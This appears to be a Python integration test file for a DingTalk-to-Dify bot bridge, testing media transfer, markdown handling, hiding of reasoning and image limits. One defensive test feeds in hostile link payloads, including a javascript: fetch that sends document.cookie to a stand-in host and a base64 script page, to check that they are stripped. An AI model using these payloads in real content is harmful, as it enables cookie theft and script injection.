"""Pictures, files and voice both ways, markdown and `<think>` handling, end to end: messages pushed by the fake
DingTalk over the real SDK, files downloaded from it and uploaded to the fake Dify, Dify's images and files
uploaded to the fake DingTalk's media store and shown in the card or sent after it. Nothing of ours is mocked.
Against a Dify 0.15.3 and a Dify 1.16.1."""

from __future__ import annotations

import base64
import json
import re
from typing import Any

import pytest
from aiohttp import web

from dingdifyd.bridge.media import IMAGES_LEFT_OUT, MAX_IMAGES_PER_ANSWER, MAX_TRANSFERS
from dingdifyd.simulator.dify import TOOL_IMAGE, FakeDify
from dingdifyd.simulator.dingtalk import (
    API_BATCH_SEND,
    API_GROUP_SEND,
    SAMPLE_PNG,
)
from tests.integration.harness import bot_entry, deliver, dify_key, echo, running_bot, write_config

pytestmark = pytest.mark.timeout(60)


@pytest.fixture
def dify(any_dify):
    """Each test of this module against each Dify version."""
    return any_dify


OTHER_PNG = SAMPLE_PNG[:-12] + b"\x00" * 4 + SAMPLE_PNG[-8:]  # different bytes, still a PNG by its header


def chat_bodies(dify: FakeDify, path: str = "/chat-messages") -> list[dict[str, Any]]:
    return [request.json for request in dify.requests_to(path)]


def uploads_in_order(dify: FakeDify, files: list[dict[str, Any]]) -> list[bytes]:
    return [dify.uploads[f["upload_file_id"]].data for f in files]


# --- in: what the person sends -----------------------------------------------------------------------------


async def test_a_picture_without_text_is_asked_about_with_the_default_query(tmp_path, dingtalk, dify):
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
        card = await deliver(dingtalk, dingtalk.make_message("picture", sender_staff_id="staff7"))
    (body,) = chat_bodies(dify)
    assert body["query"] == "Please describe this picture."
    (file,) = body["files"]
    assert file["type"] == "image" and file["transfer_method"] == "local_file"
    uploaded = dify.uploads[file["upload_file_id"]]
    assert uploaded.data == SAMPLE_PNG  # the bytes behind the downloadCode, through DingTalk's download URL
    assert uploaded.name.endswith(".png") and uploaded.mime_type == "image/png"
    assert uploaded.user == body["user"] == "dingtalk:dingcorp001:staff7"  # 0.6.x insists on the same user
    assert card.final_content == echo("Please describe this picture.", dify)


async def test_rich_text_keeps_its_text_and_the_order_of_its_pictures(tmp_path, dingtalk, dify):
    first, second = dingtalk.add_file(SAMPLE_PNG, content_type="image/png"), dingtalk.add_file(OTHER_PNG)
    rich = [
        {"text": "Compare this one:"},
        {"pictureDownloadCode": "p1", "downloadCode": first, "type": "picture"},
        {"text": "with this one."},
        {"pictureDownloadCode": "p2", "downloadCode": second, "type": "picture"},
    ]
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
        await deliver(dingtalk, dingtalk.make_message("richText", content={"richText": rich}))
        await deliver(dingtalk, dingtalk.make_message("richText", text="What is in it?"))  # one picture
    several, one = chat_bodies(dify)
    assert several["query"] == "Compare this one:\n[image 1]\nwith this one.\n[image 2]"
    assert uploads_in_order(dify, several["files"]) == [SAMPLE_PNG, OTHER_PNG]
    assert one["query"] == "What is in it?\nWhat is in it?"  # the sample's text parts: the given one, then its own
    assert len(one["files"]) == 1


async def test_a_file_goes_as_a_document_and_voice_as_its_recognised_text(tmp_path, dingtalk, dify):
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
        file_card = await deliver(dingtalk, dingtalk.make_message("file"))
        voice_card = await deliver(dingtalk, dingtalk.make_message("audio", text="明天北京天气怎么样"))
    file_body, voice_body = chat_bodies(dify)
    assert file_body["query"] == "Please read the attached file."
    (file,) = file_body["files"]
    assert file["type"] == "document"
    assert dify.uploads[file["upload_file_id"]].name == "notes.txt"
    assert dify.uploads[file["upload_file_id"]].data == b"hello file\n"
    assert file_card.final_content == echo("Please read the attached file.", dify)
    assert voice_body["query"] == "明天北京天气怎么样"
    assert "files" not in voice_body
    assert len(dify.uploads) == 1  # the voice recording itself is not uploaded
    assert voice_card.final_content == echo("明天北京天气怎么样", dify)


async def test_files_the_app_does_not_take_get_a_clear_reply(tmp_path, dingtalk, dify):
    dify.apps[dify_key("chatbot")].file_upload = False
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
        rich = await deliver(dingtalk, dingtalk.make_message("richText", text="Look at this"))
        asked = len(dify.requests_to("/parameters"))
        picture = await deliver(dingtalk, dingtalk.make_message("picture"))
        video = await deliver(dingtalk, dingtalk.make_message("video"))
    assert picture.final_content == "This app does not accept files or pictures, so the picture was not passed on."
    assert video.final_content == "This app does not accept files or pictures, so the video was not passed on."
    assert not picture.failed
    # with text, the text is still answered, and the person is told about the picture
    (body,) = chat_bodies(dify)
    assert "files" not in body
    assert rich.final_content == (
        echo("Look at this<br>What is in it?", dify)  # the query's line break, as DingTalk shows one
        + "\n\n⚠️ This app does not accept files or pictures, so the picture was not passed on."
    )
    assert dify.uploads == {}
    assert len(dify.requests_to("/parameters")) == asked  # the app's file settings are cached


async def test_a_video_refused_by_type_names_what_the_app_accepts(tmp_path, dingtalk, dify):
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
        card = await deliver(dingtalk, dingtalk.make_message("video"))
    assert card.final_content == (
        "This app does not accept videos (the video was not passed on); it accepts pictures and documents."
    )
    assert dify.requests_to("/chat-messages") == []


async def test_a_workflow_gets_the_file_in_its_file_input(tmp_path, dingtalk, dify):
    app = dify.apps[dify_key("workflow")]
    app.user_input_form = [
        {"text-input": {"label": "query", "variable": "query", "required": True, "max_length": 256,
                        "type": "text-input"}},
        {"file": {"label": "doc", "variable": "doc", "required": False, "type": "file",
                  "allowed_file_types": ["document"], "allowed_file_extensions": [],
                  "allowed_file_upload_methods": ["local_file", "remote_url"]}},
    ]
    config = write_config(tmp_path / "c.yaml", dingtalk, dify, bots=[bot_entry(app_type="workflow")])
    async with running_bot(config):
        card = await deliver(dingtalk, dingtalk.make_message("file"))
    (body,) = chat_bodies(dify, "/workflows/run")
    doc = body["inputs"]["doc"]
    assert doc["type"] == "document" and doc["transfer_method"] == "local_file"  # transcript 83's shape
    assert dify.uploads[doc["upload_file_id"]].data == b"hello file\n"
    assert body["inputs"]["query"] == "Please read the attached file."
    assert "files" not in body
    assert card.final_content == echo("Please read the attached file.", dify)


# --- out: what Dify gives back -----------------------------------------------------------------------------


async def test_a_tool_image_from_dify_shows_in_the_card_as_dingtalk_media(tmp_path, dingtalk, dify):
    dify.configure(dify_key("chatbot"), message_file=True)
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
        card = await deliver(dingtalk, dingtalk.make_text_message("draw a cat"))
    (media,) = dingtalk.uploaded_media
    assert media.data == TOOL_IMAGE and media.media_type == "image"
    assert card.final_content == echo("draw a cat", dify) + f"\n\n![image]({media.media_id})"


async def test_a_markdown_image_with_a_relative_dify_url_reaches_dingtalk(tmp_path, dingtalk, dify):
    url = dify.add_tool_file(SAMPLE_PNG)
    answer = f"Here is the chart:\n\n![sales chart]({url})\n\nSales grew 12%."
    dify.configure(dify_key("chatbot"), answer=answer)
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
        card = await deliver(dingtalk, dingtalk.make_text_message("chart please"))
    (media,) = dingtalk.uploaded_media
    assert media.data == SAMPLE_PNG and media.filename.endswith(".png")
    assert card.final_content == f"Here is the chart:\n\n![sales chart]({media.media_id})\n\nSales grew 12%."
    # no card update ever showed Dify's URL, which DingTalk could not have loaded
    assert not any("/files/tools/" in content for content in card.contents)


async def test_images_can_go_as_image_messages_after_the_card(tmp_path, dingtalk, dify):
    dify.configure(dify_key("chatbot"), message_file=True)
    config = write_config(tmp_path / "c.yaml", dingtalk, dify, image_delivery="message")
    async with running_bot(config):
        card = await deliver(dingtalk, dingtalk.make_text_message("draw a dog", group=True, conversation_id="cidG=="))
        sent = await dingtalk.wait_for(lambda: dingtalk.sent_messages, what="the image message")
    assert card.final_content == echo("draw a dog", dify)
    (message,) = sent
    (media,) = dingtalk.uploaded_media
    assert message.api == API_GROUP_SEND and message.body["openConversationId"] == "cidG=="
    assert message.body["msgKey"] == "sampleImageMsg"
    assert json.loads(message.body["msgParam"]) == {"photoURL": media.media_id}


async def test_a_workflow_file_output_is_sent_as_a_file_after_the_card(tmp_path, dingtalk, dify):
    pdf = b"%PDF-1.4 fake report\n"
    dify.add_workflow_output_file(dify_key("workflow"), "report", pdf, filename="Q3 report.pdf",
                                  mime_type="application/pdf")
    config = write_config(tmp_path / "c.yaml", dingtalk, dify, bots=[bot_entry(app_type="workflow")])
    async with running_bot(config):
        card = await deliver(dingtalk, dingtalk.make_text_message("make the report", sender_staff_id="staff9"))
        sent = await dingtalk.wait_for(lambda: dingtalk.sent_messages, what="the file message")
    assert card.final_content == echo("make the report", dify)
    (media,) = dingtalk.uploaded_media
    assert media.data == pdf and media.media_type == "file" and media.content_type == "application/pdf"
    (message,) = sent
    assert message.api == API_BATCH_SEND and message.body["userIds"] == ["staff9"]
    assert message.body["msgKey"] == "sampleFile"
    assert json.loads(message.body["msgParam"]) == {"mediaId": media.media_id, "fileName": "Q3 report.pdf",
                                                     "fileType": "pdf"}


# --- markdown and reasoning --------------------------------------------------------------------------------


async def test_reasoning_never_shows_and_the_answer_is_adapted(tmp_path, dingtalk, dify):
    answer = (
        "<think>\nThe user wants a comparison. I will make a table.\n</think>\n\n"
        "Comparison:\n| Plan | Price |\n|---|---|\n| Basic | free |\n| Pro | ¥99 |\nLine one\nLine two"
    )
    dify.configure(dify_key("chatbot"), answer=answer)
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
        card = await deliver(dingtalk, dingtalk.make_text_message("compare"))
    assert card.final_content == "Comparison:\n\n- **Basic**: free\n- **Pro**: ¥99\n\nLine one<br>Line two"
    assert len(card.contents) >= 2
    assert not any("user wants" in content or "think>" in content for content in card.contents)


async def test_reasoning_can_be_quoted(tmp_path, dingtalk, dify):
    dify.configure(dify_key("chatbot"), answer="<think>Short and sweet.</think>Hello!")
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify, show_reasoning="quote")):
        card = await deliver(dingtalk, dingtalk.make_text_message("hi"))
    assert card.final_content == "> 💭 **Thinking**<br>Short and sweet.\n\nHello!"


async def test_images_elsewhere_stay_and_inline_images_and_dify_links_are_made_usable(tmp_path, dingtalk, dify):
    inline = "data:image/png;base64," + base64.b64encode(SAMPLE_PNG).decode()
    answer = (
        "Logo: ![logo](https://cdn.example.com/logo.png)\n\n"
        f"Inline: ![dot]({inline})\n\n"
        "Download [the report](/files/tools/r.pdf?sign=abc)."
    )
    dify.configure(dify_key("chatbot"), answer=answer)
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
        card = await deliver(dingtalk, dingtalk.make_text_message("show me"))
    (media,) = dingtalk.uploaded_media
    assert media.data == SAMPLE_PNG
    assert card.final_content == (
        "Logo: ![logo](https://cdn.example.com/logo.png)\n\n"
        f"Inline: ![dot]({media.media_id})\n\n"
        f"Download [the report]({dify.public_url}/files/tools/r.pdf?sign=abc)."
    )


async def test_links_with_unsafe_schemes_from_the_model_never_reach_the_card(tmp_path, dingtalk, dify):
    answer = (
        "Open [the form](javascript:fetch('//x/'+document.cookie)) or [pay](dtmd://dingtalkclient/sendMessage?"
        "content=pay) or [page](data:text/html;base64,PHNjcmlwdD4=) or <vbscript:msgbox>.\n\n"
        "![x](javascript:alert(1)) Details: [docs](https://example.com/docs)."
    )
    dify.configure(dify_key("chatbot"), answer=answer)
    dify.enable_suggested_questions(dify_key("chatbot"), ["[Tap](javascript:alert(2)) here?"])
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
        card = await deliver(dingtalk, dingtalk.make_text_message("links please"))
    unsafe_link = re.compile(r"(\]\(|<)\s*<?\s*(javascript|dtmd|data|vbscript):", re.IGNORECASE)
    for content in [*card.contents, card.final_content]:
        assert not unsafe_link.search(content), content  # shown as text at most, never as a link
    assert "[docs](https://example.com/docs)" in card.final_content
    assert "Tap" in card.final_content  # the suggestion stays, as text


async def test_an_image_on_another_origin_is_left_to_dingtalk_never_fetched_by_the_bot(tmp_path, dingtalk, dify):
    reached: list[str] = []

    async def internal(request: web.Request) -> web.Response:
        reached.append(request.path)
        return web.Response(body=SAMPLE_PNG, content_type="image/png")

    app = web.Application()
    app.router.add_get("/{tail:.*}", internal)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.5)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    internal_url = f"http://127.0.0.1:{runner.addresses[0][1]}/files/tools/a.png"  # Dify's path, not its origin
    try:
        dify.configure(dify_key("chatbot"), answer=f"Look: ![a]({internal_url})")
        async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
            card = await deliver(dingtalk, dingtalk.make_text_message("show the metadata"))
    finally:
        await runner.cleanup()
    assert reached == []  # the card is final, so every fetch the answer caused has been made: none was
    assert dingtalk.uploaded_media == []
    assert card.final_content == f"Look: ![a]({internal_url})"  # DingTalk's client may fetch it, not the bot


async def test_an_answer_with_many_images_and_files_is_capped_and_says_so(tmp_path, dingtalk, dify):
    urls = [dify.add_tool_file(SAMPLE_PNG[:-12] + bytes([i]) * 4 + SAMPLE_PNG[-8:]) for i in range(30)]
    dify.configure(dify_key("chatbot"), answer=" ".join(f"![img{i}]({url})" for i, url in enumerate(urls)))
    dify.file_delay = 0.05  # each download takes a moment, so that transfers overlap if they may
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
        card = await deliver(dingtalk, dingtalk.make_text_message("all the pictures"))
    assert len(dingtalk.uploaded_media) == MAX_IMAGES_PER_ANSWER
    assert dify.files_served == MAX_IMAGES_PER_ANSWER
    assert 1 < dify.max_files_in_flight <= MAX_TRANSFERS  # a few at a time, never all at once
    assert card.final_content.count("](@") == MAX_IMAGES_PER_ANSWER
    assert IMAGES_LEFT_OUT.format(count=30 - MAX_IMAGES_PER_ANSWER, limit=MAX_IMAGES_PER_ANSWER) in card.final_content


async def test_a_file_name_in_chinese_reaches_dify_as_it_is(tmp_path, dingtalk, dify):
    code = dingtalk.add_file(b"%PDF-1.4\n", content_type="application/pdf")
    content = {"spaceId": "1", "fileName": "季度报告 Q3.pdf", "downloadCode": code, "fileId": "2"}
    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
        await deliver(dingtalk, dingtalk.make_message("file", content=content))
    (uploaded,) = dify.uploads.values()
    assert uploaded.name == "季度报告 Q3.pdf" and uploaded.extension == "pdf"
